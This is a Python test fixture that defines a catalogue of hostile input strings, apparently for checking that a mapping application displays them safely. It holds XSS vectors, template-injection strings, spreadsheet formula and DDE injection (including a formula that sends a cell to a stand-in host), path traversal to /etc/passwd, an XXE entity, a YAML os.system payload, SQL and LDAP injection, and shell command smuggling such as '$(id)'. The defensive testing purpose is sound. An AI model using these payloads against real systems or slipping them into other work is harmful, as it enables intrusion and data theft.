"""The one corpus of hostile texts: what every door of the atlas is tried with, and what every place must show as text.

A payload that runs leaves a trace (see `RAN`): it sets `window.top.__pwned`, opens a dialog, changes the title, or asks
for an address that holds `CANARY`. Payloads that cannot run attack the layout, the order of the letters, a file format
or a log instead.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

from geo.text import settle

#: In the address of every request that only a payload makes.
CANARY = "canari-pwned"

#: JavaScript that is true in a frame where a payload ran.
RAN = """() => typeof window.__pwned !== "undefined" || typeof window.top.__pwned !== "undefined"
    || document.title.includes("PWNED") || Object.prototype.pollue !== undefined"""

#: Much more than any name, title or remark: 100 kB.
HUGE = 100_000

_SET = "window.top.__pwned=1"
_ASK = f"/{CANARY}"


@dataclass(frozen=True, slots=True)
class Payload:
    """One hostile text: `id` names it in reports, `family` is what it attacks."""

    id: str
    family: str
    text: str

    @property
    def shown(self) -> str:
        """What a page or a file shows of it: see `geo.text.settle`."""
        return settle(self.text)

    @property
    def one_line(self) -> str:
        """What a line of text shows of it: blanks in a row are one space, as a browser draws them."""
        return squeeze(self.shown)

    @property
    def is_huge(self) -> bool:
        return len(self.text) >= HUGE


def squeeze(text: str) -> str:
    """Return a text with its blanks made single spaces, no-break ones too."""
    return " ".join(text.split())


_FAMILIES: dict[str, dict[str, str]] = {
    "html": {
        "script": f"<script>{_SET}</script>",
        "script-close": f"</script><script>{_SET}</script>",
        "img-onerror": f'<img src=x onerror="{_SET}">',
        "img-request": f'<img src="{_ASK}.png">',
        "attribute-double": f'" autofocus onfocus="{_SET}" x="',
        "attribute-single": f"' onmouseover='{_SET}' x='",
        "iframe-srcdoc": f'<iframe srcdoc="<script>{_SET}</script>"></iframe>',
        "object": f'<object data="{_ASK}"></object><embed src="{_ASK}">',
        "base": f'<base href="https://exemple.invalid/{CANARY}/">',
        "meta-refresh": f'<meta http-equiv="refresh" content="0;url={_ASK}">',
        "form": f'<form action="{_ASK}"><input name=x autofocus onfocus="{_SET}"></form>',
        "comment": f"<!--><img src=x onerror={_SET}>-->",
        "title-textarea": f"</title></textarea></style><img src=x onerror={_SET}>",
        "noscript": f'<noscript><p title="</noscript><img src=x onerror={_SET}>">',
        "details": f"<details open ontoggle={_SET}>x</details>",
        "video": f"<video><source onerror={_SET}></video>",
        "unclosed": "<a href='https://exemple.fr/",
        "template-tag": f"<template shadowrootmode=open><script>{_SET}</script></template>",
        "dom-clobber": '<form id="atlas" name="Atlas"><input name="dom"></form><a id="parent">',
    },
    "svg": {
        "onload": f"<svg onload={_SET}>",
        "animate": f'<svg><animate onbegin="{_SET}" attributeName=x dur=1s></svg>',
        "use": f'<svg><use href="{_ASK}.svg#x"/></svg>',
        "foreign-object": f"<svg><foreignObject><img src=x onerror={_SET}></foreignObject></svg>",
        "mathml": f'<math><mtext><table><mglyph><style><img src=x onerror="{_SET}"></table></math>',
    },
    "address": {
        "javascript": f"javascript:{_SET}",
        "javascript-case": f"JaVaScRiPt:{_SET}",
        "javascript-tab": f"java\tscript:{_SET}",
        "javascript-space": f" javascript:{_SET}",
        "javascript-entity": f"javascript&colon;{_SET}",
        "data": f"data:text/html,<script>{_SET}</script>",
        "vbscript": "vbscript:msgbox(1)",
        "file": "file:///etc/passwd",
        "blob": "blob:https://exemple.invalid/1",
        "no-scheme": f"//exemple.invalid/{CANARY}",
        "backslashes": f"https:\\\\exemple.invalid\\{CANARY}",
        "quote": f'https://exemple.fr/" onclick="{_SET}',
        "not-an-address": "https://[::1",
        "user-info": "https://atlas.exemple.fr@exemple.invalid/",
    },
    "template": {
        "js-literal": f"`${{{_SET}}}`",
        "js-literal-alone": f"${{{_SET}}}",
        "backtick": "`",
        "backslash-end": "fin en contre-oblique \\",
        "js-string": f"');{_SET};//",
        "js-unicode-escape": f"\\u003cimg src=x onerror={_SET}\\u003e",
        "jinja": "{{ 7 * 7 }}{% raw %}{{ config }}",
        "jinja-class": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "percent": "%s %(nom)s %n {0} {nom!r:>999999999}",
        "folium": "{{this.get_name()}}.bindPopup(`<script>`) {% macro script(this, kwargs) %}",
        "leaflet": '<div class="leaflet-popup" style="position:fixed;inset:0">x</div>',
        "angular": "{{constructor.constructor('return 1')()}}",
    },
    "markdown": {
        "link": f"[cliquez]({_ASK} 'x')",
        "image": f"![x]({_ASK}.png)",
        "javascript-link": f"[x](javascript:{_SET})",
        "reference": f"[x][1]\n\n[1]: {_ASK}",
        "autolink": f"<https://exemple.invalid/{CANARY}> www.exemple.invalid",
        "code": "```js\nalert(1)\n``` `x`",
        "heading": "# Titre\n\n- liste\n\n> citation\n\n| a | b |\n|---|---|",
        "emphasis": "**gras** _italique_ ~~barré~~ <b>b</b>",
        "katex": "$\\text{x}$ $$\\href{javascript:alert(1)}{x}$$ \\(x\\)",
        "katex-macro": "$\\def\\x{\\x\\x}\\x$",
        "emoji": ":smile: :+1: :streamlit:",
        "material": ":material/home: :red[rouge] :blue-background[bleu]",
        "directive": ":::note{onclick=alert(1)} :small[x]{style=x}",
        "typography": "-> <- <-> -- >= <= ~= (c)",
        "footnote": "[^1]\n\n[^1]: note",
    },
    "bidi": {
        "override": "a\u202egnp.exe",
        "override-closed": "\u202eenvers\u202c endroit",
        "isolate-escape": "\u2069\u2069\u202eenvers",
        "isolate-open": "\u2067ouvert",
        "embedding": "\u202b\u202a\u202dlot",
        "hebrew": "\u05d0\u05d1\u05d2 123",
        "arabic": "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 (2015)",
        "paragraph": "\u202eun\u2029deux\u202c",
        "marks": "\u200f12\u200e \u061cx",
    },
    "control": {
        "nul": "avant\x00après",
        "escape": "\x1b[31mrouge\x1b]0;PWNED\x07\x1b[2J",
        "backspace": "abc\x08\x08\x08xyz\x7f",
        "c1": "a\x85b\x9bc",
        "line-separators": "a\u2028b\u2029c",
        "lone-surrogate": "a\ud800b\udfffc",
        "non-characters": "a\ufffeb\uffffc\ufdd0d",
        "crlf-header": f"x\r\nSet-Cookie: pwned=1\r\nLocation: {_ASK}",
        "log-line": "x\n2026-01-01 00:00:00 ERROR faux journal",
        "tab-newline": "a\tb\nc\rd",
        "vertical": "a\x0bb\x0cc\x1cd\x1ee",
    },
    "unicode": {
        "zero-width": "z\u200be\u200cr\u200do\ufeff\u2060",
        "combining": "Z" + "\u0351\u0489\u0362" * 60,
        "normalisation": "e\u0301 \u00e9 \ufb01 \u2126 \u212b",
        "full-width": "＜script＞alert(1)＜/script＞",
        "overlong-latin1": "\u00c0\u00bcscript\u00c0\u00be",
        "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "entities": "&lt;img src=x onerror=alert(1)&gt; &#60; &amp;amp; &nbsp; &NotAnEntity;",
        "tags": "x\U000e0041\U000e007f",
        "emoji-joined": "👨‍👩‍👧‍👦 🏴󠁧󠁢󠁳󠁣󠁴󠁿",
        "private": "\ue000\U0010fffd",
        "ligature-arabic": "\ufdfa" * 20,
        "soft-hyphens": "a\u00ad" * 50,
    },
    "formula": {
        "equals": "=1+1",
        "hyperlink": f'=HYPERLINK("http://exemple.invalid/{CANARY}","x")',
        "plus": "+1+1",
        "minus": "-1+1",
        "at": "@SUM(A1:A9)",
        "tab": "\t=1+1",
        "return": "\r=1+1",
        "newline": "\n=1+1",
        "dde": "=cmd|'/c calc'!A0",
        "quoted": '"=1+1',
        "apostrophe": "'=1+1",
        "full-width": "＝1+1",
        "spaces": " \u00a0\u200b=1+1",
        "web-service": '=WEBSERVICE("http://exemple.invalid/"&A1)',
        "semicolon": "x;=1+1;\"a\"\"b\"",
        "error-value": "#N/A",
        "xlsx-escape": "_x0041__x000D__x005F_",
        "xml": "]]><x/>&bogus;<!ENTITY a SYSTEM 'file:///etc/passwd'>",
        "number-like": "0033612345678",
        "date-like": "1/2",
    },
    "path": {
        "parent": "../../../../etc/passwd",
        "parent-windows": "..\\..\\windows\\win.ini",
        "parent-encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "absolute": "/etc/passwd\x00.csv",
        "device": "CON.csv",
        "quote": 'a";filename="pwned.exe',
        "hidden": ".htaccess",
        "star": "utf-8''%22pwned%22.csv",
    },
    "data": {
        "json-close": '"]}],"x":[{"y":"',
        "json-nan": "NaN",
        "proto": "__proto__",
        "constructor": "constructor",
        "to-string": "toString",
        "proto-json": '{"__proto__":{"pollue":1}}',
        "yaml": "!!python/object/apply:os.system ['id']",
        "yaml-norway": "no",
        "null": "null",
        "big-number": "9" * 400,
        "float": "1e999",
        "sql": "'; DROP TABLE ptce; -- ",
        "sql-like": "%' OR '1'='1",
        "ldap": "*)(uid=*))(|(uid=*",
        "shell": "$(id) `id` ; id | id && id",
        "empty-looking": "\u3164\u2800",
        "separator": "a | b ; c",
    },
    "css": {
        "style": "<style>*{display:none}</style>",
        "import": f"@import url({_ASK}.css);",
        "expression": f"}}*{{background:url({_ASK}.png)}}",
        "style-attribute": f'<p style="position:fixed;inset:0;background:url({_ASK}.png)">x</p>',
    },
    "huge": {
        "one-word": "M" * HUGE,
        "words": "long texte " * (HUGE // 11 + 1),
        "lines": "ligne\n" * (HUGE // 6 + 1),
        "tags": "<b>" * (HUGE // 3 + 1),
        "bidi-depth": "\u202b" * 200 + "x" * HUGE,
    },
}  # fmt: skip


def _payloads() -> Iterator[Payload]:
    for family, texts in _FAMILIES.items():
        for name, text in texts.items():
            yield Payload(f"{family}-{name}", family, text)


PAYLOADS = tuple(_payloads())
FAMILIES = tuple(_FAMILIES)
BY_ID = {payload.id: payload for payload in PAYLOADS}

#: Those of a reasonable size: a file of all of them stays small.
SHORT = tuple(payload for payload in PAYLOADS if not payload.is_huge)
